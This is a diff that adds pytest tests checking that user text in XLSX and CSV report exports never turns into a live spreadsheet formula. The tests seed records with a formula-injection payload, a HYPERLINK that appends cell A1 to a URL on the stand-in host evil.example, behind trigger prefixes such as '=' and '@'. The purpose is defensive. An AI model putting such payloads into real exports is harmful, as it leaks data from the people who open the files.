@@ -219,3 +219,54 @@ def test_ticking_moves_progress_over_the_rows():
     seen = []
     assert list(ticking(range(4), total=4, progress=seen.append, start=10, end=90)) == [0, 1, 2, 3]
     assert seen == [30, 50, 70, 90]
+
+
+EVIL = 'HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+def poisoned_program(prefix: str):
+    """The populated program with every piece of user text starting with `prefix`."""
+    from applicants.models import Application, Company
+
+    program = populated_program()
+    program.title = f"{prefix}{EVIL}"
+    program.save(update_fields=["title"])
+    program.sponsor.name = f"{prefix}sponsor"
+    program.sponsor.save(update_fields=["name"])
+    applications = Application.objects.filter(program=program)
+    applications.update(title=f"{prefix}{EVIL}")
+    Company.objects.filter(applications__in=applications).update(name=f"{prefix}1+1")
+    return program
+
+
+def text_cells(book):
+    """Every cell holding user text (the poisoned strings), over all sheets."""
+    return [
+        cell
+        for sheet in book.worksheets
+        for row in sheet.iter_rows()
+        for cell in row
+        if isinstance(cell.value, str) and ("HYPERLINK" in cell.value or "1+1" in cell.value)
+    ]
+
+
+@pytest.mark.parametrize(
+    "kind", [K.APPLICATIONS_EXPORT, K.FUND_STATUS, K.PROGRAM_STATUS, K.OUTCOMES], ids=lambda k: k
+)
+@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"], ids=repr)
+def test_user_text_is_never_a_formula_in_a_workbook(tmp_path, kind, prefix):
+    program = poisoned_program(prefix)
+    cells = text_cells(workbook(make(tmp_path, kind, F.XLSX, program=program)))
+    assert cells, "the poisoned text is in the report"
+    for cell in cells:
+        assert cell.data_type == "s", (cell.parent.title, cell.coordinate, cell.value)
+
+
+@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"], ids=repr)
+def test_user_text_is_neutralised_in_a_csv_report(tmp_path, prefix):
+    program = poisoned_program(prefix)
+    path = make(tmp_path, K.APPLICATIONS_EXPORT, F.CSV, program=program)
+    rows = list(csv.reader(path.open(encoding="utf-8-sig", newline="")))
+    titles = [row[7] for row in rows[1:]] + [row[1] for row in rows[1:]] + [row[2] for row in rows[1:]]
+    assert titles and all(cell.startswith("'" + prefix) for cell in titles), titles
+    assert all(row[8].isdigit() for row in rows[1:])  # the amounts stay plain numbers
